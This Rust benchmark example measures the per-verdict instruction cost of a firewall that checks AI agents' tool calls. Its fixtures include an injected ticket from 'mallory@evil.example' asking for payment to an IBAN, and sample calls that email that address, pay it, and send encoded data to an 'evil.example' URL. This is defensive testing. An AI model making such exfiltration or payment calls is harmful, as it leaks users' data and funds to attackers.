//! Runs N verdicts against the same 10,000-node profile as `benches/firewall.rs`, for
//! counting instructions per verdict where wall-clock benches are too noisy:
//!
//! ```sh
//! cargo build --release -p handrail-core --example firewall_verdicts
//! valgrind --tool=callgrind --collect-atstart=no --toggle-collect='*run_verdicts*' \
//!     target/release/examples/firewall_verdicts 10000
//! ```
//!
//! Instructions per verdict = the collected `Ir` / N (only `run_verdicts` is counted, not
//! building the profile). Besides the bench's call (no destinations), `--mixed` also checks
//! calls that carry an e-mail address, an IBAN and a URL, so the provenance path is counted.

use std::hint::black_box;

use handrail_core::firewall::{Call, Firewall, Session};
use serde_json::json;

#[allow(dead_code)]
#[path = "../benches/common/firewall_profile.rs"]
mod firewall_profile;

use firewall_profile::{build, NOW};

/// The measured loop: nothing else runs while callgrind collects.
#[inline(never)]
fn run_verdicts(fw: &Firewall, session: &Session, calls: &[Call<'_>], n: usize) -> usize {
    let mut held = 0;
    for i in 0..n {
        let call = &calls[i % calls.len()];
        let verdict = fw.check(black_box(session), black_box(call), NOW);
        held += usize::from(verdict.action != handrail_core::firewall::Action::Allow);
    }
    held
}

fn main() {
    let mut n = 10_000;
    let mut mixed = false;
    for arg in std::env::args().skip(1) {
        if arg == "--mixed" {
            mixed = true;
        } else if let Ok(parsed) = arg.parse() {
            n = parsed;
        }
    }
    let (fw, calls) = build(200_000);
    let (prev_tool, prev_args) = &calls[calls.len() - 2];
    let mut session = fw.begin("bench", "update records for ana@acme.example, link https://acme.example/a");
    fw.observe_only(
        &mut session,
        &Call { tool: prev_tool, args: prev_args, effect: None, cost_usd: None },
        Some("ticket from mallory@evil.example, pay DE89 3704 0044 0532 0130 00"),
    );
    let (tool, args) = &calls[calls.len() - 1];
    let mut checked = vec![Call { tool, args, effect: None, cost_usd: None }];
    let destinations = [
        json!({"to": "ana@acme.example", "subject": "hi", "body": "see attached"}),
        json!({"to": "Mallory <mallory@evil.example>", "cc": ["ana@acme.example"]}),
        json!({"iban": "DE89 3704 0044 0532 0130 00", "amount": 12.5, "memo": "invoice"}),
        json!({"url": "https://evil.example/c?d=aGVsbG8gd29ybGQgc2VjcmV0", "method": "GET"}),
        json!({"path": "/finance/reports/paid.csv", "target": "prod", "id": 7}),
    ];
    if mixed {
        let tools = ["send_email", "send_email", "pay_invoice", "http_get", tool.as_str()];
        checked.extend(tools.iter().zip(&destinations).map(|(t, a)| Call {
            tool: t,
            args: a,
            effect: None,
            cost_usd: None,
        }));
    }
    for call in &checked {
        let v = fw.check(&session, call, NOW);
        let codes: Vec<&str> = v.reasons.iter().map(|r| r.code.as_str()).collect();
        println!("{}: {} {:.2} {codes:?}", call.tool, v.action.as_str(), v.score);
    }
    let held = run_verdicts(&fw, &session, &checked, n);
    println!("{n} verdicts over {} calls, {held} held", checked.len());
}
